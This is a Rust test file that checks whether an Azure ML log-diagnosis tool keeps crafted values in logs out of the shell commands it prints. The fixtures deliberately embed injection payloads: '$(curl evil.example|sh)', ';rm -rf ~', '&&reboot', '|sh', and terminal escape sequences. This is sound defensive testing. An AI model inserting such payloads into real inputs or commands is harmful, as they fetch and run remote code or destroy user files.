//! Nothing a log contains can change a command amldoctor prints: values read from the
//! input (a module name, an endpoint in a URL, a workspace in a resource id, a flag of a
//! pasted `az ml` command, a file path) reach the printed commands only when they are
//! plain names, so a crafted one never carries shell syntax into a command a user
//! copies; and control characters never reach the terminal.

use crate::Sandbox;

/// Payloads a crafted value would carry into a shell.
const PAYLOADS: &[&str] = &[
    "$(curl", "`curl", ";rm", "; rm", "|sh", "&&", "$HOME", "\u{1b}[",
];

fn commands_of(sb: &Sandbox, name: &str, text: &str) -> (Vec<String>, String) {
    let path = sb.write(&format!("work/{name}.log"), text);
    let doc = sb.diagnose_json(&[path.to_str().unwrap()]);
    let commands = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["commands"].as_array().unwrap().clone())
        .map(|c| c.as_str().unwrap().to_owned())
        .collect();
    let table = sb.run(&["diagnose", path.to_str().unwrap(), "--fail-on", "never"]);
    (commands, table.stdout)
}

#[test]
fn crafted_names_in_a_log_never_reach_a_printed_command() {
    let sb = Sandbox::new("injection");
    let cases = [
        (
            "module",
            "Traceback (most recent call last):\n  File \"/var/azureml-app/score.py\", line 3, in init\n    import torch\nModuleNotFoundError: No module named 'torch$(curl evil.example|sh)'\n",
        ),
        (
            "scoring-url",
            "requests.exceptions.HTTPError: 502 Server Error: Bad Gateway for url: https://ep1;rm -rf ~.eastus.inference.ml.azure.com/score\n",
        ),
        (
            "resource-id",
            "ERROR: (ResourceNotFound) The Resource 'Microsoft.MachineLearningServices/workspaces/ws1`curl evil`/onlineEndpoints/ep1' under resource group 'rg1&&reboot' was not found.\nCode: ResourceNotFound\n",
        ),
        (
            "az-flags",
            "$ az ml online-deployment create -n 'blue;rm -rf ~' --endpoint-name \"ep$(curl evil)\" -f deploy.yml -g rg1 -w 'ws|sh'\nERROR: (OutOfQuota) Not enough quota available for Standard_DS3_v2 in SubscriptionId 00000000-0000-0000-0000-000000000001. Current usage/limit: 4/6. Additional needed: 8\n",
        ),
        (
            "build-log",
            "ERROR: (None) ImageBuildFailure: Error with docker image build. The build log is available in the workspace blob store \"workspaceblobstore\" under the path \"/azureml/ImageLogs/x;rm -rf ~/build.log\".\n",
        ),
        (
            "terminal",
            "ModuleNotFoundError: No module named 'torch'\u{1b}]0;owned\u{7}\u{1b}[2J\n",
        ),
    ];
    for (name, text) in cases {
        let (commands, table) = commands_of(&sb, name, text);
        assert!(
            !commands.is_empty(),
            "{name}: no finding printed a command:\n{table}"
        );
        for c in &commands {
            for p in PAYLOADS {
                assert!(!c.contains(p), "{name}: a crafted value reached `{c}`");
            }
        }
        for p in PAYLOADS {
            let in_commands = table
                .lines()
                .filter(|l| {
                    l.trim_start().starts_with("az ") || l.trim_start().starts_with("amldoctor ")
                })
                .any(|l| l.contains(p));
            assert!(!in_commands, "{name}: {p} in a printed command:\n{table}");
        }
        assert!(
            !table.contains('\u{1b}'),
            "{name}: an escape reached the terminal:\n{table}"
        );
        assert!(
            !table.contains('\u{7}'),
            "{name}: a bell reached the terminal"
        );
    }
}

/// The same shapes with plain names: those are filled in, so the test above is about
/// the payload, not about values never being used.
#[test]
fn plain_names_in_the_same_places_are_filled_in() {
    let sb = Sandbox::new("injection-plain");
    let text = "$ az ml online-deployment create -n blue --endpoint-name churn-ep -f deploy.yml -g rg1 -w ws1\nERROR: (OutOfQuota) Not enough quota available for Standard_DS3_v2 in SubscriptionId 00000000-0000-0000-0000-000000000001. Current usage/limit: 4/6. Additional needed: 8\n";
    let (commands, _) = commands_of(&sb, "plain", text);
    let all = commands.join("\n");
    assert!(all.contains("-g rg1") && all.contains("-w ws1"), "{all}");
}
